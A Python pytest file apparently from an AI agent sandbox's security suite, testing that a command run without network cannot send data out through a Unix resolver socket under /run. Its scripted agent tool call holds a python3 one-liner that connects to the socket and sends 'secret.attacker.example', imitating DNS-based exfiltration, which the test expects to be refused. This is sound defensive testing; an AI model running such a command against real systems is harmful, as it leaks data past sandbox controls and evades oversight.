"""A command without the network must not reach out through a Unix socket on the filesystem:
those are reachable from any network namespace, and a resolver's (nscd at `/run/nscd/socket`,
systemd-resolved's `io.systemd.Resolve`) looks up any name a command sends, so the data leaves
in DNS queries (docs/security.md section 4). Through the real `kiln run --mode ci`, with a
listener at a socket under `/run` standing for the resolver (the test needs to make one there:
root, as in CI)."""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
import uuid
from pathlib import Path

import pytest

from agent.sandbox import find_backend
from tests.security.scripted_run import kiln_run, stream_transcript, tool_results

pytestmark = [
    pytest.mark.skipif(find_backend() is None, reason="needs bubblewrap"),
    pytest.mark.skipif(not os.access("/run", os.W_OK), reason="needs a socket under /run"),
]


def test_a_socket_under_run_is_out_of_reach(tmp_path: Path, kiln_home: Path) -> None:
    folder = Path("/run") / f"kiln-test-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(folder / "resolver.sock"))
        server.listen()
        received: list[bytes] = []

        def serve() -> None:
            while True:
                try:
                    conn, _ = server.accept()
                except OSError:
                    return
                with conn:
                    received.append(conn.recv(1024))

        threading.Thread(target=serve, daemon=True).start()
        command = (
            'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); '
            f"s.connect('{folder}/resolver.sock'); s.sendall(b'secret.attacker.example'); "
            "print('sent')\""
        )
        script = tmp_path / "script.json"
        script.write_text(json.dumps(
            [{"tool_calls": [{"name": "run_command", "input": {"command": command}}]}, "done"]
        ))  # fmt: skip
        root = tmp_path / "home" / "proj"
        root.mkdir(parents=True)
        proc = kiln_run(root, home=root.parent, kiln_home=kiln_home, script=script, mode="ci",
                        output="stream-json")  # fmt: skip
        results = " ".join(json.dumps(r) for r in tool_results(stream_transcript(proc)))
        server.close()
        assert received == [], results
        assert "Connection refused" in results, results
    finally:
        shutil.rmtree(folder, ignore_errors=True)
